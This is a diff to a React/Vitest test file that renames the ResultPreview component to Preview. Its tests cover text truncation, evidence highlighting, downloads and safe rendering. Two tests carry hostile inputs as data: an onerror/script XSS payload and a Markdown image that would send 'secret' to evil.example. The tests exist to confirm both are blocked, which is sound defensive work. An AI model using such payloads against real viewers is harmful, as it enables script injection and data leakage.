@@ -3,14 +3,14 @@ import userEvent from "@testing-library/user-event";
 import { expect, it } from "vitest";
 import type { Quote } from "@/results/model/evidence";
 import { TEXT_SHOWN_CHARS } from "@/results/model/limits";
+import { Preview } from "@/testing/Preview";
 import { renderPage } from "@/testing/render";
 import { on, problem } from "@/testing/server";
-import { ResultPreview } from "./ResultPreview";
 
 const SOURCE = { jobId: "poem", version: 4 };
 
 it("a long text is cut, and shown whole when asked", async () => {
-  render(<ResultPreview value={"x".repeat(TEXT_SHOWN_CHARS + 1)} source={SOURCE} />);
+  render(<Preview value={"x".repeat(TEXT_SHOWN_CHARS + 1)} source={SOURCE} />);
   expect(screen.getByText(/shown 4,000 of 4,001 characters/)).toBeVisible();
   await userEvent.click(screen.getByRole("button", { name: "Show all" }));
   expect(screen.queryByText(/shown/)).not.toBeInTheDocument();
@@ -19,7 +19,7 @@ it("a long text is cut, and shown whole when asked", async () => {
 it("a quote beyond the cut is shown all the same", () => {
   const text = `${"x ".repeat(TEXT_SHOWN_CHARS)}the end`;
   const { container } = render(
-    <ResultPreview value={text} source={SOURCE} quotes={[{ id: "c", text: "the end" }]} focus={{ id: "c", turn: 0 }} />,
+    <Preview value={text} source={SOURCE} quotes={[{ id: "c", text: "the end" }]} focus={{ id: "c", turn: 0 }} />,
   );
   expect(container.querySelector("mark[aria-current]")).toHaveTextContent("the end");
 });
@@ -27,7 +27,7 @@ it("a quote beyond the cut is shown all the same", () => {
 it("a quote is brought into sight place by place, also after another view was chosen", async () => {
   const quotes = [{ id: "c", text: "moon" }];
   const preview = (turn?: number) => (
-    <ResultPreview
+    <Preview
       value={"# moon\n\nmoon"}
       source={SOURCE}
       quotes={quotes}
@@ -54,14 +54,14 @@ it("only the evidence of the criterion in hand is marked", () => {
     { id: "b 0", criterion: "b", text: "sun" },
   ];
   const { container } = render(
-    <ResultPreview value="sun, moon, June" source={SOURCE} quotes={quotes} focus={{ id: "a 1", turn: 0 }} />,
+    <Preview value="sun, moon, June" source={SOURCE} quotes={quotes} focus={{ id: "a 1", turn: 0 }} />,
   );
   expect([...container.querySelectorAll("mark")].map((mark) => mark.textContent)).toEqual(["moon", "June"]);
 });
 
 it("HTML stays text, wherever it is shown", async () => {
   const { container } = render(
-    <ResultPreview value={'# Hi\n\n<img src="x" onerror="alert(1)"><script>1</script>'} source={SOURCE} />,
+    <Preview value={'# Hi\n\n<img src="x" onerror="alert(1)"><script>1</script>'} source={SOURCE} />,
   );
   expect(await screen.findByRole("heading", { name: "Hi" })).toBeVisible();
   expect(container.querySelector("img, script")).toBeNull();
@@ -70,7 +70,7 @@ it("HTML stays text, wherever it is shown", async () => {
 });
 
 it("a result that is an HTML document is its source first, then a frame without any rights", async () => {
-  const { container } = render(<ResultPreview value="<!doctype html><script>1</script>" source={SOURCE} />);
+  const { container } = render(<Preview value="<!doctype html><script>1</script>" source={SOURCE} />);
   expect(container.querySelector("pre")).toHaveTextContent("<script>");
   expect(container.querySelector("iframe")).toBeNull();
   await userEvent.click(screen.getByRole("tab", { name: "Rendered" }));
@@ -80,7 +80,7 @@ it("a result that is an HTML document is its source first, then a frame without 
 });
 
 it("a download is what is stored", () => {
-  render(<ResultPreview value={{ a: 1 }} source={{ jobId: "a/b", version: 7 }} />);
+  render(<Preview value={{ a: 1 }} source={{ jobId: "a/b", version: 7 }} />);
   const link = screen.getByRole("link", { name: "Download" });
   expect(link).toHaveAttribute("href", "/api/jobs/a%2Fb/logs/7/result?download=1");
 });
@@ -100,7 +100,7 @@ it("a quote that stands only in what is stored is shown there", async () => {
   ];
   const value = JSON.parse(stored);
   const { container } = await renderPage(
-    <ResultPreview value={value} source={SOURCE} quotes={quotes} focus={{ id: "c", turn: 0 }} />,
+    <Preview value={value} source={SOURCE} quotes={quotes} focus={{ id: "c", turn: 0 }} />,
   );
   expect(await screen.findByText("moon")).toHaveAttribute("aria-current", "true");
   expect([...container.querySelectorAll("mark")].map((mark) => mark.textContent)).toEqual(["moon", "and June"]);
@@ -109,14 +109,14 @@ it("a quote that stands only in what is stored is shown there", async () => {
 
 it("says so where what is stored cannot be had", async () => {
   on("get", "/api/jobs/poem/logs/4/result", () => problem(404, "no_result", "the entry holds no result"));
-  const { user } = await renderPage(<ResultPreview value={{ a: 1 }} source={SOURCE} />);
+  const { user } = await renderPage(<Preview value={{ a: 1 }} source={SOURCE} />);
   await user.click(screen.getByRole("tab", { name: "As stored" }));
   expect(await screen.findByText("the entry holds no result")).toBeVisible();
 });
 
 it("a remote image of Markdown is left out, and said so", async () => {
   const { container } = render(
-    <ResultPreview value="# Hi ![a chart](https://evil.example/p.png?q=secret)" source={SOURCE} />,
+    <Preview value="# Hi ![a chart](https://evil.example/p.png?q=secret)" source={SOURCE} />,
   );
   await userEvent.click(screen.getByRole("tab", { name: "Markdown" }));
   expect(await screen.findByText("[image left out: a chart]")).toBeVisible();
@@ -125,7 +125,7 @@ it("a remote image of Markdown is left out, and said so", async () => {
 
 it("a list of objects is a table", () => {
   render(
-    <ResultPreview
+    <Preview
       value={[
         { name: "moon", size: 1 },
         { name: "sun", size: 9 },
@@ -141,12 +141,7 @@ it("a quote is shown in the tree and in the table where it stands, however deep 
   const tree = { a: { b: { c: ["sun", `${"x ".repeat(400)}the moon`] } }, d: "the moon" };
   const quotes = [{ id: "c", text: "the moon" }];
   const view = (value: unknown, turn?: number) => (
-    <ResultPreview
-      value={value}
-      source={SOURCE}
-      quotes={quotes}
-      focus={turn === undefined ? null : { id: "c", turn }}
-    />
+    <Preview value={value} source={SOURCE} quotes={quotes} focus={turn === undefined ? null : { id: "c", turn }} />
   );
   const { container, rerender, unmount } = render(view(tree));
   await userEvent.click(screen.getByRole("tab", { name: "JSON" }));
